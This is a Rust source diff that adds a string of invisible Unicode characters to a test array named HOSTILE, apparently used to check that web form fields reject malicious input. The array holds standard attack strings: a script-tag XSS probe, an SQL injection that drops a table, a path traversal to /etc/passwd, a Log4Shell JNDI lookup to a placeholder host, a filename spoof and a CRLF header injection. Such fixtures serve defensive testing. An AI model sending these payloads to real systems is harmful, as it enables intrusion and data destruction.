@@ -17,13 +17,16 @@ use rig::web::{Answer, Web, encoded};
 use serde_json::{Value, json};
 
 /// What a stranger may write into a field.
-const HOSTILE: [&str; 6] = [
+/// It looks like nothing, and is refused like nothing wherever something has to be written.
+const INVISIBLE: &str = "\u{200b} \u{2060}\u{ad}";
+const HOSTILE: [&str; 7] = [
     "<script>alert(1)</script>",
     "'; drop table item; --",
     "../../../../etc/passwd",
     "${jndi:ldap://host.invalid/a}",
     "\u{202e}gnp.exe\u{200b}",
     "%00 \r\nSet-Cookie: a=b",
+    INVISIBLE,
 ];
 
 /// A form of one button: sending it empty is the order itself.
